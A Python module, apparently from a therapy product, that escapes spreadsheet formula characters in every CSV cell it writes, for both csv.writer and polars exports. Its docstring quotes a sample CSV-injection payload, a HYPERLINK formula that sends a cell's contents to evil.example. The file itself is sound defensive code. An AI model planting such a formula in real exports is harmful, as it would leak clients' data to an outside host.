"""The one place the product writes CSV, so that no cell can run as a spreadsheet formula.

Spreadsheets (Excel, LibreOffice, Google Sheets) evaluate a cell that begins with `=`, `+`, `-`
or `@` as a formula, and some also after a leading tab or carriage return: a client who types
`=HYPERLINK("https://evil.example/?"&A1, "click")` as a goal's wording would otherwise have it
run on the therapist's computer when the export is opened (OWASP, "CSV Injection"). Such text
cells get a leading apostrophe, which spreadsheets show as text and do not evaluate. Numbers
are left alone: -3 is a number, not a formula. Every CSV writer of the product goes through
`writer()` or `write_frame()`; `tests/security/test_csv_cells.py` checks that no other code
writes CSV and feeds each writer a hostile value.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from pathlib import Path
from typing import Any

# The characters OWASP lists as starting a formula in at least one spreadsheet program.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
ESCAPE = "'"


def neutralise(value: Any) -> Any:
    """The cell as written: text that a spreadsheet would evaluate gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return ESCAPE + value
    return value


class SafeWriter:
    """csv.writer's interface, with every cell neutralised."""

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: Any, **options: Any) -> SafeWriter:
    return SafeWriter(stream, **options)


def write_frame(frame: Any, path: Path) -> None:
    """Write a polars DataFrame as CSV, its text columns neutralised the same way."""
    import polars as pl

    pattern = "^[" + "".join("\\" + c if c in "-\\" else c for c in FORMULA_STARTS) + "]"
    text_columns = [name for name, kind in frame.schema.items() if kind == pl.Utf8]
    safe = frame.with_columns(
        pl.when(pl.col(name).str.contains(pattern))
        .then(pl.lit(ESCAPE) + pl.col(name))
        .otherwise(pl.col(name))
        .alias(name)
        for name in text_columns
    )
    safe.rename({name: neutralise(name) for name in safe.columns}).write_csv(path)
